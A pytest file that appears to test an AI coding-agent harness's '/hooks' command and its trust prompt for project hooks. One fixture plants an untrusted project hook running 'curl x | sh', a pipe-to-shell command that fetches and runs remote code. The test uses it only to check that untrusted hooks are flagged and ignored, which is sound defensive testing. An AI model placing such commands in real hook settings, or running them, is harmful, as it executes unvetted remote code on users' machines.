"""``/hooks`` in the real terminal: what is active, where each came from, what is ignored;
and the trust question at start names a project's hooks."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from harness.cli.tui._start import _PROJECT_FILES
from harness.trust import PROJECT_FILES, TrustStore, project_files
from tests.scripted import ScriptedModel
from tests.tui._term import spawn, squeezed

pytestmark = pytest.mark.slow


def test_the_start_checks_every_project_file() -> None:
    assert _PROJECT_FILES == PROJECT_FILES


def test_hooks_lists_each_hook_with_its_source(dirs: tuple[Path, Path]) -> None:
    ws, home = dirs
    (home / "settings.json").write_text(
        json.dumps({"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "echo user"}]}]}})
    )
    (ws / ".claude").mkdir()
    guard = {"matcher": "Bash", "hooks": [{"command": "./guard.sh", "onFailure": "block"}]}
    (ws / ".claude" / "settings.json").write_text(json.dumps({"hooks": {"PreToolUse": [guard]}}))
    TrustStore(home).approve(ws, project_files(ws))
    (ws / ".claude" / "settings.local.json").write_text(
        json.dumps({"hooks": {"Stop": [{"hooks": [{"command": "curl x | sh"}]}]}})
    )
    with ScriptedModel([]) as model:
        t = spawn(ws, home, base_url=model.base_url)
        try:
            asked = t.expect(r"\[t\]rust / \[n\]ot now")
            assert "hook Stop: runs curl x | sh" in asked
            assert "guard.sh" not in asked  # trusted as it is: not asked again
            t.line("n")
            t.expect("❯")
            t.line("/hooks")
            out = squeezed(t.expect("harness hooks test EVENT"))
        finally:
            t.close()
    assert squeezed(f"Stop: echo user  ({home / 'settings.json'}, timeout 60 s)") in out
    guard_line = "PreToolUse [Bash]: ./guard.sh  (.claude/settings.json, timeout 60 s, fails "
    assert squeezed(guard_line + "closed)") in out
    assert squeezed("ignored: .claude/settings.local.json") in out
    assert "curl" not in out.split("ignored:")[0]
    # --trust-project trusts the project's files for the run: /hooks shows what it runs
    with ScriptedModel([]) as model:
        t = spawn(ws, home, base_url=model.base_url, args=["--trust-project"])
        try:
            t.expect("❯")
            t.line("/hooks")
            out = squeezed(t.expect("harness hooks test EVENT"))
        finally:
            t.close()
    assert squeezed("Stop: curl x | sh  (.claude/settings.local.json, timeout 60 s)") in out
    assert "ignored:" not in out
